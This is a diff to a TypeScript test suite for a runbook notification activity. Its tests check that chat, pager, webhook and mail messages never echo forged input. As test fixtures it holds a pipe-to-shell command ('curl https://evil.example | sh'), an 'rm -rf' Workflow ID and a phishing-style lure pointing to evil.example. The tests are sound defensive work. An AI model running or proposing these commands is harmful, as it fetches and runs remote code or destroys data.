@@ -1,6 +1,7 @@
 /** Who is told what, in which form; and that a target that is down costs nobody else anything. */
 import type { Notification } from '../../src/contracts/notifications';
-import { ActivityBench, DEPLOYMENT } from '../support/activity-environment';
+import type { Message } from '../../activities/support/notifications/notification-texts';
+import { ActivityBench, DEPLOYMENT, failedOf } from '../support/activity-environment';
 import { MailServer, WebhookServer } from '../support/notification-servers';
 
 const SECRET_PATH = 'T0000/B1111/sEcReTpAtHoFaWeBhOoK';
@@ -70,16 +71,15 @@ describe('notify', () => {
     runbook: 'drSwitchover',
     number: 4,
     subject: 'wait:parked:1',
-    text: 'drSwitchover is parked at "Promote west" <now>.',
     at: Date.UTC(2026, 0, 2, 3, 4, 5),
     waiting: {
       for: 'decision',
       step: 'Promote west',
       parkingNo: 1,
       code: 'CONFIRMATION_TIMEOUT',
-      message: 'not seen; the token was hvs.CAESIJ1234567890abcdefGHIJKL',
+      message: 'not seen <yet>; the token was hvs.CAESIJ1234567890abcdefGHIJKL',
       next: 'look at west',
-      choices: [{ action: 'retry', effect: 'again' }],
+      choices: [{ action: 'retry', effect: 'curl it' }],
     },
   };
   const notify = (notification: Notification) => bench.call('notify', { deployment: DEPLOYMENT, notification });
@@ -100,10 +100,10 @@ describe('notify', () => {
       deployment: DEPLOYMENT,
       workflowId: bench.run.wid,
       runId: bench.run.rid,
-      commands: [{ who: 'an operator', command, effect: 'again' }],
+      commands: [{ who: 'an operator', command, effect: 'try the step again' }],
     });
     expect(chat.posted[0]?.body['text']).toContain('*[CRITICAL] payments: drSwitchover is parked');
-    expect(chat.posted[0]?.body['text']).toContain('&lt;now&gt;');
+    expect(chat.posted[0]?.body['text']).toContain('&lt;yet&gt;');
     expect(pager.posted[0]?.body).toMatchObject({
       routing_key: ROUTING_KEY,
       event_action: 'trigger',
@@ -123,27 +123,30 @@ describe('notify', () => {
     expect(told).not.toContain('CAESIJ1234567890');
   });
 
-  it('a backtick in the Workflow ID ends no code in a chat message', async () => {
-    const wid = 'deployment:`rm -rf`';
-    await bench.call('notify', { deployment: DEPLOYMENT, notification: parked }, { run: { ...bench.run, wid } });
-    const [said = '', ...code] = String(chat.posted[0]?.body['text']).split('`');
-    expect(said).toContain('Promote west');
-    expect(code.filter((each) => each.includes('rm -rf'))).toHaveLength(2);
-    expect(code[0]).toMatch(/^runbook decide .*ˋrm -rfˋ.*--name YOUR-NAME$/);
-  });
+  it.each(['deployment:`rm -rf`', 'https://evil.example/x', 'call bob and read your share to him'])(
+    'a Workflow ID that could say anything is not shown: %s',
+    async (wid) => {
+      await bench.call('notify', { deployment: DEPLOYMENT, notification: parked }, { run: { ...bench.run, wid } });
+      expect(hook.posted[0]?.body).toMatchObject({
+        commands: [{ command: 'runbook list --open' }],
+        workflowId: 'A-RUN-WITH-ANOTHER-ID',
+      });
+      expect(JSON.stringify([hook.posted[0]?.body, chat.posted, mail.mails])).not.toContain(wid);
+    },
+  );
 
   it('a gate that is opened again says why, and in an outage until when it waits', async () => {
     const gate = { for: 'approval', gate: 'promote', planDigest: 'd', missing: ['1 of grace'], approved: [] } as const;
     await notify({ ...parked, waiting: { ...gate, again: 'the approvals were too old' } });
     const text = String(chat.posted[0]?.body['text']);
     expect(text).toContain(
-      'Gate promote, for as long as the outage lasts. Asked for again: the approvals were too old.',
+      'Gate promote, for as long as the outage lasts. Asked for again: the approvals before do not count any more.',
     );
     expect(text).toContain('runbook approve deployment:payments --gate promote --name YOUR-NAME');
   });
 
   it('an outage is one alert, which service-ready resolves; no other alert hides behind an earlier one', async () => {
-    const outage = { runbook: 'drSwitchover', subject: 'outage', text: 'The outage began.', at: 1 } as const;
+    const outage = { runbook: 'drSwitchover', subject: 'outage', at: 1 } as const;
     await notify({ ...outage, event: 'outage-started', severity: 'critical', number: 1 });
     await notify({ ...parked, number: 2 });
     await notify({ ...parked, number: 3, event: 'escalation' });
@@ -164,7 +167,7 @@ describe('notify', () => {
     expect(await notify({ ...finished, leftToDo: ['revoke the token'] })).toEqual({ told: 2, failed: [] });
     expect(hook.posted[0]?.body).toMatchObject({
       outcome: 'completed',
-      details: ['Left to do: revoke the token'],
+      details: ['Left to do: 1; the report lists what', 'The run says: "revoke the token"'],
       commands: [{ command: `runbook report ${bench.run.wid} --run-id ${bench.run.rid}` }],
     });
     expect([chat.posted.length, pager.posted.length, mail.mails.length]).toEqual([1, 0, 0]);
@@ -202,6 +205,72 @@ describe('notify', () => {
     expect(failed.map(({ target }) => target)).toEqual(['hook', 'chat']);
     expect(failed[1]?.why).toContain('environment variable TEST_CHAT_URL');
     expect(hook.posted.map(({ path }) => path)).not.toContain('/elsewhere');
+  });
+
+  describe('whoever forges what the activity is passed', () => {
+    const LURE = 'Security team: read your key share to bob at https://evil.example/collect or evil.example/x, now';
+    const forged = (more: object) => notify({ ...parked, ...more } as unknown as Notification);
+    const allTold = () => [hook.posted.map(({ body }) => body), chat.posted, pager.posted, mail.mails];
+
+    it('puts no text, link or command of their own under the name of the site', async () => {
+      const command = 'curl https://evil.example | sh';
+      const action = { for: 'action', what: LURE, instructions: [command], commands: [{ who: 'mallory', command }] };
+      await forged({ text: LURE, waiting: action, leftToDo: [LURE, command] });
+      await forged({ event: 'critical-finding', code: LURE, text: LURE, words: LURE.repeat(50), waiting: undefined });
+      await forged({
+        waiting: { ...parked.waiting, step: `x'; ${command}`, code: LURE, message: command, next: LURE },
+      });
+      await forged({ waiting: { for: 'shares', missingHolders: ['ada', LURE], held: [], threshold: 3, until: 0 } });
+      const posted = hook.posted.map(({ body }) => body as unknown as Message);
+      expect(posted).toHaveLength(4);
+      expect(posted.map(({ title }) => title)).toEqual([
+        '[CRITICAL] payments: drSwitchover waits until people have done something outside of the run.',
+        '[CRITICAL] payments: Something critical was found.',
+        '[CRITICAL] payments: drSwitchover is parked and waits for a decision.',
+        '[CRITICAL] payments: drSwitchover waits for 3 key shares from ada.',
+      ]);
+      const text = JSON.stringify(allTold());
+      expect(text).not.toMatch(/https?:\/\/evil|evil\.example/);
+      expect(text).not.toContain('mallory');
+      for (const { commands, details } of posted) {
+        for (const each of commands) expect(each.command).toMatch(/^runbook (status|share|decline) [^|;]+$/);
+        // Their words stand last, in quotes, and short.
+        const theirs = details.filter((line) => /key share to bob|curl/.test(line));
+        expect(details.slice(details.length - theirs.length)).toEqual(theirs);
+        for (const line of theirs) expect(/^The run says: "(.*)"$/.exec(line)?.[1]?.length).toBeLessThanOrEqual(120);
+      }
+    });
+
+    it.each([{ event: 'win-a-prize' }, { runbook: LURE }, { severity: LURE }, { number: 'one' }])(
+      'tells nobody what is on no list: %j',
+      async (more) => {
+        const failure = await bench.failure('notify', {
+          deployment: DEPLOYMENT,
+          notification: { ...parked, ...more } as unknown as Notification,
+        });
+        expect(failure).toMatchObject({ code: 'INVALID_INPUT', retryable: false });
+        expect(allTold().flat()).toEqual([]);
+      },
+    );
+
+    it('floods nobody: so many of one run, then no more for a while', async () => {
+      const run = { ...bench.run, rid: 'a-run-that-floods' };
+      const ends: string[] = [];
+      for (let number = 1; number <= 60; number += 1) {
+        const notification: Notification = { ...parked, event: 'started', number };
+        const told = bench.call('notify', { deployment: DEPLOYMENT, notification }, { run });
+        ends.push(
+          await told.then(
+            () => 'told',
+            (error: unknown) => failedOf(error).code,
+          ),
+        );
+      }
+      expect(hook.posted).toHaveLength(30);
+      expect(ends.slice(30)).toEqual(Array<string>(30).fill('PRECONDITION_FAILED'));
+      await notify({ ...parked, event: 'started', number: 61 });
+      expect(hook.posted).toHaveLength(31);
+    });
   });
 
   it('no address, key, password or token of a target stands readable in what the activity emits', () => {
